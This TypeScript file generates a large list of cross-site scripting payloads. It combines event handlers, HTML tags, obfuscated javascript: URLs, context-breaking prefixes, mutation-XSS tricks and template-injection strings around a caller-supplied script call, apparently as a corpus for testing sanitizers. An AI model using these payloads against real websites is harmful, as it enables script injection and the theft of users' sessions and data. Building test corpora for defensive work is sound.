/** Markup and texts that try to run `call` as a script, each in its own way. Written by rule, so that every mixture is there. */
export function xssPayloads(call: string): readonly string[] {
  const handlers = [
    'onerror',
    'onload',
    'onfocus',
    'onclick',
    'onmouseover',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
    'onbegin',
  ];
  const tags = [
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'audio src=x',
    'marquee',
    'iframe',
    'a href=# id=x',
    'math',
    'object data=x',
    'style',
    'p style=animation-name:x',
  ];
  const quotes = ['"', "'", '`', ''];
  const urls = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    '&#106;avascript:',
    'javascript&colon;',
    'data:text/html,<script>',
    'vbscript:',
    ' javascript:',
    '\u0001javascript:',
  ];
  const holders = [
    'a href',
    'iframe src',
    'form action',
    'button formaction',
    'object data',
    'embed src',
    'base href',
    'svg><a xlink:href',
    'math href',
    'link rel=import href',
    'img src',
    'area href',
    'meta http-equiv=refresh content',
  ];
  const around = [
    '',
    '"><',
    "'><",
    '</textarea>',
    '</title>',
    '-->',
    ']]>',
    '</script>',
    '</style>',
    '\u0000',
    '{{',
    '${',
  ];
  const out: string[] = [];
  for (const tag of tags)
    for (const handler of handlers) for (const quote of quotes) out.push(`<${tag} ${handler}=${quote}${call}${quote}>`);
  for (const holder of holders) for (const url of urls) out.push(`<${holder}="${url}${call}">press</a>`);
  for (const start of around) {
    out.push(
      `${start}<script>${call}</script>`,
      `${start}<svg/onload=${call}>`,
      `${start}<img src=x onerror=${call}>`,
      `${start}<scr<script>ipt>${call}</scr</script>ipt>`,
    );
    out.push(
      `${start}<noscript><p title="</noscript><img src=x onerror=${call}>">`,
      `${start}<template><script>${call}</script></template>`,
      `${start}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    );
    out.push(
      `${start}<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
      `${start}<a href="javascript:${call}" target=_blank>x</a>`,
      `${start}\${${call}}`,
      `${start}{{constructor.constructor('${call}')()}}`,
    );
  }
  for (let i = 0; out.length < 1100; i++) out.push(`${out[i] ?? ''}${out[(i * 7) % 500] ?? ''}`);
  return [...new Set(out)];
}
